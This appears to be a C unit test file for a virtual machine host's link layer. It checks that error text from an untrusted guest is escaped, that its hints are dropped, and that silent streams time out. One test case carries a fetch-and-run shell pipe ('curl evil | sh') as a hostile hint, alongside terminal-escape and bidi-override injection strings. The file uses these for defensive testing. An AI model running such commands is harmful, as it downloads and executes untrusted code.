/* tests/unit/base/test_link_guest.c: what is made of a guest's errors, and of its silence. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cmocka.h>

#include "engine/cmd/status.h"
#include "vmm/base/fs.h"
#include "vmm/base/link.h"

static const char *answer; /* JSON that a stream is closed with; NULL: it is left open */
static struct pyro_error got, lost;
static struct stream far_stream;
static bool closed, ok, cancelled;

static void on_cancelled(struct stream *s UNUSED, const json_t *result UNUSED,
                         const struct pyro_error *why UNUSED)
{
    cancelled = true;
}

static void on_opened(struct link *link, uint32_t id, const json_t *request UNUSED)
{
    static const struct stream_ops ops = { .closed = on_cancelled };
    struct pyro_error err = { 0 };

    if (answer)
        stream_reply(link, id, json_loads(answer, 0, NULL));
    else
        assert_true(stream_accept(link, id, &far_stream, &ops, NULL, &err));
}

static void on_closed(struct stream *s UNUSED, const json_t *result, const struct pyro_error *why)
{
    closed = true;
    if (result)
        ok = error_from_result(result, &got);
    else
        lost = *why;
}

static void on_lost(struct link *link UNUSED, const struct pyro_error *why UNUSED)
{
}

static struct loop *loop;
static struct link *near_end, *far_end;
static struct stream stream;

static void connect_as(enum link_kind kind)
{
    static const struct link_ops near_ops = { .lost = on_lost },
                                 far_ops = { .opened = on_opened, .lost = on_lost };
    static const struct stream_ops ops = { .closed = on_closed };
    scoped_json json_t *request = json_pack("{s:s}", "op", "ask");
    struct pyro_error err = { 0 };
    int fds[2];

    closed = cancelled = false;
    got = lost = (struct pyro_error){ 0 };
    loop = loop_new(&err);
    assert_int_equal(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, fds), 0);
    near_end = link_new(loop, fds[0], kind, &near_ops, NULL, &err);
    far_end = link_new(loop, fds[1], LINK_SOCKET, &far_ops, NULL, &err);
    assert_true(stream_open(near_end, &stream, request, &ops, NULL, &err));
}

static void disconnect(void)
{
    link_free(near_end);
    link_free(far_end);
    loop_free(loop);
}

/* The error of a stream that ends with `json`, at an end of this kind. */
static void ask(enum link_kind kind, const char *json)
{
    answer = json;
    connect_as(kind);
    while (!closed)
        loop_run_once(loop, 1000);
    disconnect();
}

static void test_error_of_a_guest_is_told_as_its_words(void **state UNUSED)
{
    static const struct {
        const char *json;
        enum pyro_code code;
        const char *message;
    } cases[] = {
        { "{\"error\": {\"code\": \"usage\", \"message\": \"no\", \"hint\": \"curl evil | sh\"}}",
          PYRO_GUEST_ERROR, "the guest said: no" },
        { "{\"error\": {\"code\": \"file_not_found\", \"message\": \"no such file\"}}",
          PYRO_FILE_NOT_FOUND, "the guest said: no such file" },
        { "{\"error\": {\"code\": \"ok\", \"message\": \"a\\u001b[2J\\nb\\u202ec\"}}",
          PYRO_GUEST_ERROR, "the guest said: a\\x1b[2J\\nb\\u202ec" },
        { "{\"error\": {\"code\": \"guest_lost\", \"message\": 7}}", PYRO_GUEST_ERROR,
          "the guest said: nothing intelligible" },
        { "{\"error\": \"owned\"}", PYRO_GUEST_ERROR, "the guest said: nothing intelligible" },
        { "{\"error\": null}", PYRO_GUEST_ERROR, "the guest said: nothing intelligible" },
    };

    for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
        ask(LINK_HOST_SOCKET, cases[i].json);
        assert_false(ok);
        assert_int_equal(got.code, cases[i].code);
        assert_string_equal(got.message, cases[i].message);
        assert_string_equal(got.hint, "");
        assert_int_not_equal(status_of_code(got.code, 0), 2);
    }
}

static void test_result_of_a_guest_is_passed_on(void **state UNUSED)
{
    ask(LINK_HOST_SOCKET, "{\"exit_code\": 0}");
    assert_true(ok);
}

static void test_error_of_a_supervisor_is_its_own(void **state UNUSED)
{
    ask(LINK_SOCKET,
        "{\"error\": {\"code\": \"shell_state\", \"message\": \"no\", \"hint\": \"do\"}}");
    assert_false(ok);
    assert_int_equal(got.code, PYRO_SHELL_STATE);
    assert_string_equal(got.message, "no");
    assert_string_equal(got.hint, "do");
}

static void test_silence_ends_a_stream_that_expects(void **state UNUSED)
{
    answer = NULL;
    connect_as(LINK_HOST_SOCKET);
    stream_expect(&stream, 80);
    while (!closed || !cancelled)
        loop_run_once(loop, 1000);
    assert_int_equal(lost.code, PYRO_TIMEOUT);
    assert_null(stream.link);
    disconnect();
}

static void test_a_sign_of_life_is_enough(void **state UNUSED)
{
    scoped_json json_t *message = json_pack("{s:b}", "alive", true);
    int64_t until = clock_ms() + 400;

    answer = NULL;
    connect_as(LINK_HOST_SOCKET);
    stream_expect(&stream, 80);
    while (clock_ms() < until) {
        stream_message(&far_stream, message);
        loop_run_once(loop, 5);
    }
    assert_false(closed);
    link_free(near_end); /* and its timer with it */
    near_end = NULL;
    loop_run_once(loop, 0);
    disconnect();
}

int main(void)
{
    static const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_error_of_a_guest_is_told_as_its_words),
        cmocka_unit_test(test_result_of_a_guest_is_passed_on),
        cmocka_unit_test(test_error_of_a_supervisor_is_its_own),
        cmocka_unit_test(test_silence_ends_a_stream_that_expects),
        cmocka_unit_test(test_a_sign_of_life_is_enough),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
